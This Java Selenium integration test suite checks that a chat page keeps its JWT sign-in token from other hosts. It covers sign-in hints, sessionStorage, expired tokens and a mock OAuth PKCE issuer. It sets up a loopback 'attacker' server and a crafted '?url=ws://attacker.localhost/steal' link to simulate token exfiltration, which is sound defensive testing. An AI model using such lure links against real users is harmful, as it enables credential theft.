package io.wschat.localchat;

import static org.assertj.core.api.Assertions.assertThat;

import com.sun.net.httpserver.HttpServer;
import io.wschat.localchat.deploy.Repository;
import java.net.InetAddress;
import java.net.InetSocketAddress;
import java.net.URI;
import java.net.http.HttpClient;
import java.net.http.HttpRequest;
import java.net.http.HttpResponse;
import java.nio.charset.StandardCharsets;
import java.security.MessageDigest;
import java.util.Base64;
import java.util.Map;
import java.util.concurrent.ConcurrentHashMap;
import java.nio.file.Path;
import java.time.Duration;
import java.util.List;
import java.util.Optional;
import java.util.concurrent.CopyOnWriteArrayList;
import org.junit.jupiter.api.AfterEach;
import org.junit.jupiter.api.BeforeEach;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.api.io.TempDir;
import org.openqa.selenium.Alert;
import org.openqa.selenium.By;
import org.openqa.selenium.JavascriptExecutor;
import org.openqa.selenium.WebDriver;
import org.openqa.selenium.WebElement;
import org.openqa.selenium.support.ui.ExpectedConditions;
import org.openqa.selenium.support.ui.WebDriverWait;

/**
 * Issue 15, finding 6: the page served by the runner (in jwt mode) is opened with {@code ?url=} pointing at an
 * "attacker" on another loopback port, which records every handshake it gets. The token never leaves without a
 * confirmation that names the attacker's host.
 */
class BrowserTokenIT {
  private static final Duration WAIT = Duration.ofSeconds(10);

  @TempDir
  Path profiles;

  private LocalChat chat;
  private HttpServer attacker;
  private WebDriver page;
  /** What reached the attacker: each handshake's request line and offered subprotocols. */
  private final List<String> stolen = new CopyOnWriteArrayList<>();

  @BeforeEach
  void start() throws Exception {
    Chromium.requireInstalled();
    chat = LocalChat.start(LocalChat.Options.defaults().withPort(0).withTemplate(Repository.file("template.yaml"))
        .withAuth(LocalChat.Auth.JWT).withStore(LocalChat.Store.MEMORY, Optional.empty()));
    attacker = HttpServer.create(new InetSocketAddress(InetAddress.getLoopbackAddress(), 0), 0);
    attacker.createContext("/", exchange -> {
      stolen.add(exchange.getRequestURI() + " protocols=" + exchange.getRequestHeaders().get("Sec-WebSocket-Protocol"));
      exchange.sendResponseHeaders(403, -1);
      exchange.close();
    });
    attacker.start();
    page = Chromium.start(profiles.resolve("victim"));
  }

  @AfterEach
  void stop() {
    try {
      if (page != null) {
        page.quit();
      }
    } finally {
      attacker.stop(0);
      chat.close();
    }
  }

  private String attackerHost() {
    return "attacker.localhost:" + attacker.getAddress().getPort();
  }

  /** A real development token for alice, as the runner's Sign in would mint it. */
  private String aliceToken() throws Exception {
    HttpResponse<String> minted = HttpClient.newHttpClient().send(HttpRequest.newBuilder(
            chat.pageUri().resolve("/local-auth/token?userId=alice")).POST(HttpRequest.BodyPublishers.noBody()).build(),
        HttpResponse.BodyHandlers.ofString());
    assertThat(minted.statusCode()).isEqualTo(200);
    return minted.body().replaceAll(".*\"token\"\\s*:\\s*\"([^\"]+)\".*", "$1");
  }

  private void openAttackersLink() {
    page.get(chat.pageUri() + "?url=" + "ws://" + attackerHost() + "/steal");
    new WebDriverWait(page, WAIT).until(d -> !d.findElement(By.id("state")).getText().equals("connecting"));
  }

  /** Connect, from whatever state the page is in (it keeps retrying a server that refuses it). */
  private void clickConnect() {
    if (page.findElement(By.id("connect")).getText().equals("Disconnect")) {
      page.findElement(By.id("connect")).click();
    }
    page.findElement(By.id("connect")).click();
  }

  /**
   * Issue 16: connecting without a token to the runner in jwt mode says sign-in is required, as a hint (not an
   * error), stops retrying, and its Sign in button signs in.
   */
  @Test
  void without_a_token_the_page_says_sign_in_is_required_and_offers_it() throws Exception {
    page.get(chat.pageUri() + "?connect=1");
    WebElement hint = new WebDriverWait(page, WAIT).until(ExpectedConditions.presenceOfElementLocated(
        By.cssSelector("#errors li.hint")));
    assertThat(hint.getText()).startsWith("this chat requires sign-in: enter your user id, then Sign in");
    new WebDriverWait(page, WAIT).until(ExpectedConditions.textToBe(By.id("state"), "sign-in required"));
    assertThat(hint.getCssValue("color")).as("a hint is not in the error colour of the closed state")
        .isNotEqualTo(page.findElement(By.id("state")).getCssValue("color"));
    Chromium.screenshot(page, Path.of("target", "browser-token-sign-in-required.png"));
    Thread.sleep(1500); // longer than the first retry's backoff: no retry without a token
    assertThat(page.findElement(By.id("state")).getText()).isEqualTo("sign-in required");
    assertThat(page.findElements(By.cssSelector("#errors li"))).hasSize(1);

    page.findElement(By.id("userId")).sendKeys("alice");
    hint.findElement(By.tagName("button")).click();
    new WebDriverWait(page, WAIT).until(ExpectedConditions.textToBe(By.id("me"), "Signed in as alice"));
    assertThat(page.findElement(By.id("state")).getText()).isEqualTo("connected");
  }

  /**
   * In jwt mode the "requires sign-in" hint goes once signed in, and a reload keeps the sign-in: the token stays in
   * this tab (sessionStorage, never the localStorage every tab shares) until it expires.
   */
  @Test
  void a_reload_keeps_the_sign_in_and_the_sign_in_hint_goes_once_answered() throws Exception {
    page.get(chat.pageUri().toString()); // connects by itself, and learns that sign-in is required
    new WebDriverWait(page, WAIT).until(ExpectedConditions.textToBe(By.id("state"), "sign-in required"));
    new WebDriverWait(page, WAIT).until(ExpectedConditions.presenceOfElementLocated(By.cssSelector("#errors li.hint")));
    page.findElement(By.id("userId")).sendKeys("alice");
    page.findElement(By.id("signIn")).click();
    new WebDriverWait(page, WAIT).until(ExpectedConditions.textToBe(By.id("me"), "Signed in as alice"));
    assertThat(page.findElements(By.cssSelector("#errors li"))).as("the hint is answered").isEmpty();
    String token = page.findElement(By.id("token")).getAttribute("value");
    assertThat(token).isNotBlank();

    page.navigate().refresh();
    new WebDriverWait(page, WAIT).until(ExpectedConditions.textToBe(By.id("me"), "Signed in as alice"));
    assertThat(page.findElement(By.id("state")).getText()).isEqualTo("connected");
    assertThat(page.findElements(By.cssSelector("#errors li"))).isEmpty();
    assertThat((String) ((JavascriptExecutor) page).executeScript(
        "return Object.keys(localStorage).map((k) => localStorage.getItem(k)).join(' ')"))
        .as("no token where every tab can read it").doesNotContain(token);
  }

  /** An expired sign-in is not offered to the server (it would refuse it forever): the page asks to sign in again. */
  @Test
  void an_expired_sign_in_kept_in_the_tab_asks_to_sign_in_again() throws Exception {
    page.get(chat.pageUri().toString());
    new WebDriverWait(page, WAIT).until(ExpectedConditions.textToBe(By.id("state"), "sign-in required"));
    String claims = Base64.getUrlEncoder().withoutPadding().encodeToString(
        ("{\"sub\":\"alice\",\"exp\":" + (System.currentTimeMillis() / 1000 - 60) + "}")
            .getBytes(StandardCharsets.UTF_8));
    ((JavascriptExecutor) page).executeScript("sessionStorage.setItem('wschat.token', JSON.stringify("
        + "{ token: 'eyJhbGciOiJIUzI1NiJ9.' + arguments[0] + '.c2ln', host: location.host }));", claims);
    page.navigate().refresh();
    new WebDriverWait(page, WAIT).until(ExpectedConditions.textToBe(By.id("state"), "sign-in required"));
    assertThat(page.findElement(By.id("token")).getAttribute("value")).as("the expired token is dropped").isEmpty();
    assertThat(page.findElement(By.id("me")).getText()).isEqualTo("Not registered.");
  }

  /** Against another host, without &login=, the page explains how to get a token, and where the docs say it. */
  @Test
  void without_a_token_another_host_gets_an_explanation_of_how_to_get_one() throws Exception {
    openAttackersLink();
    clickConnect(); // without a token: the "other host" refuses the handshake
    WebElement hint = new WebDriverWait(page, WAIT).until(ExpectedConditions.presenceOfElementLocated(
        By.cssSelector("#errors li.hint")));
    assertThat(hint.getText()).contains("could not connect to " + attackerHost(), "Cognito hosted UI",
        "&login=", "docs/deploy.md");
  }

  @Test
  void sign_in_on_a_link_to_another_host_mints_no_token_and_sends_none() throws Exception {
    openAttackersLink();
    page.findElement(By.id("userId")).sendKeys("alice");
    page.findElement(By.id("signIn")).click();

    new WebDriverWait(page, WAIT).until(ExpectedConditions.textToBePresentInElementLocated(By.id("errors"),
        "to sign in to " + attackerHost()));
    assertThat(page.findElement(By.id("token")).getAttribute("value")).isEmpty();
    Thread.sleep(500);
    assertThat(stolen).noneSatisfy(request -> assertThat(request).contains("token"));
  }

  @Test
  void a_token_goes_to_another_host_only_after_a_confirmation_naming_it() throws Exception {
    openAttackersLink();
    String token = aliceToken();
    page.findElement(By.cssSelector("#settings summary")).click(); // the token field is a connection setting
    page.findElement(By.id("token")).sendKeys(token);

    clickConnect();
    Alert asked = new WebDriverWait(page, WAIT).until(ExpectedConditions.alertIsPresent());
    assertThat(asked.getText()).contains("Send your sign-in token to " + attackerHost());
    asked.dismiss();
    new WebDriverWait(page, WAIT).until(ExpectedConditions.textToBePresentInElementLocated(By.id("errors"),
        "your token stays on this page"));
    Thread.sleep(1000); // time for anything the page might still send
    assertThat(stolen).as("what reached the attacker").noneSatisfy(request ->
        assertThat(request).contains(token.substring(0, 20)));

    // The detector works: agreeing sends the token, in the subprotocol and not in the URL.
    clickConnect();
    new WebDriverWait(page, WAIT).until(ExpectedConditions.alertIsPresent()).accept();
    new WebDriverWait(page, WAIT).until(d -> stolen.stream().anyMatch(r -> r.contains(token)));
    assertThat(stolen.stream().filter(r -> r.contains(token)).findFirst().orElseThrow())
        .startsWith("/steal protocols=[wschat, wschat.token." + token + "]");
  }

  /**
   * An OAuth 2.0 issuer on loopback, shaped like Cognito's hosted UI: /oauth2/authorize signs the user in at once and
   * redirects back with a code; /oauth2/token gives the ID token for that code only with the PKCE verifier.
   */
  private HttpServer issuer(String idToken, Map<String, String> seen) throws Exception {
    HttpServer server = HttpServer.create(new InetSocketAddress(InetAddress.getLoopbackAddress(), 0), 0);
    server.createContext("/oauth2/authorize", exchange -> {
      Map<String, String> query = form(exchange.getRequestURI().getRawQuery());
      seen.putAll(query);
      exchange.getResponseHeaders().add("Location", query.get("redirect_uri") + "?code=the-code&state="
          + java.net.URLEncoder.encode(query.get("state"), StandardCharsets.UTF_8));
      exchange.sendResponseHeaders(302, -1);
      exchange.close();
    });
    server.createContext("/oauth2/token", exchange -> {
      Map<String, String> body = form(new String(exchange.getRequestBody().readAllBytes(), StandardCharsets.UTF_8));
      boolean pkce;
      try {
        pkce = Base64.getUrlEncoder().withoutPadding().encodeToString(MessageDigest.getInstance("SHA-256")
            .digest(body.getOrDefault("code_verifier", "").getBytes(StandardCharsets.US_ASCII)))
            .equals(seen.get("code_challenge"));
      } catch (java.security.NoSuchAlgorithmException e) {
        throw new IllegalStateException(e);
      }
      boolean ok = pkce && "the-code".equals(body.get("code")) && "authorization_code".equals(body.get("grant_type"))
          && seen.get("client_id").equals(body.get("client_id"))
          && seen.get("redirect_uri").equals(body.get("redirect_uri"));
      seen.put("tokenRequest", ok ? "valid" : "invalid: " + body);
      byte[] answer = (ok ? "{\"id_token\":\"" + idToken + "\",\"token_type\":\"Bearer\"}"
          : "{\"error\":\"invalid_grant\"}").getBytes(StandardCharsets.UTF_8);
      exchange.getResponseHeaders().add("Content-Type", "application/json");
      exchange.getResponseHeaders().add("Access-Control-Allow-Origin", exchange.getRequestHeaders().getFirst("Origin"));
      exchange.sendResponseHeaders(ok ? 200 : 400, answer.length);
      exchange.getResponseBody().write(answer);
      exchange.close();
    });
    server.start();
    return server;
  }

  private static Map<String, String> form(String raw) {
    Map<String, String> values = new java.util.LinkedHashMap<>();
    for (String pair : raw == null ? new String[0] : raw.split("&")) {
      int eq = pair.indexOf('=');
      if (eq > 0) {
        values.put(java.net.URLDecoder.decode(pair.substring(0, eq), StandardCharsets.UTF_8),
            java.net.URLDecoder.decode(pair.substring(eq + 1), StandardCharsets.UTF_8));
      }
    }
    return values;
  }

  @Test
  void sign_in_with_login_follows_the_issuers_authorization_code_flow_with_pkce() throws Exception {
    Map<String, String> seen = new ConcurrentHashMap<>();
    HttpServer issuer = issuer(aliceToken(), seen);
    try {
      String login = "http://127.0.0.1:" + issuer.getAddress().getPort();
      page.get(chat.pageUri() + "?login=" + login + "&client_id=wschat-app");
      page.findElement(By.id("signIn")).click();

      new WebDriverWait(page, WAIT).until(ExpectedConditions.textToBe(By.id("me"), "Signed in as alice"));
      assertThat(seen).containsEntry("response_type", "code").containsEntry("client_id", "wschat-app")
          .containsEntry("code_challenge_method", "S256").containsEntry("scope", "openid")
          .containsEntry("redirect_uri", chat.pageUri().toString()).containsEntry("tokenRequest", "valid");
      assertThat(page.getCurrentUrl()).as("the code left the address bar").doesNotContain("code=")
          .contains("login=").contains("client_id=wschat-app");
      assertThat(page.findElements(By.cssSelector("#errors li"))).isEmpty();
    } finally {
      issuer.stop(0);
    }
  }
}
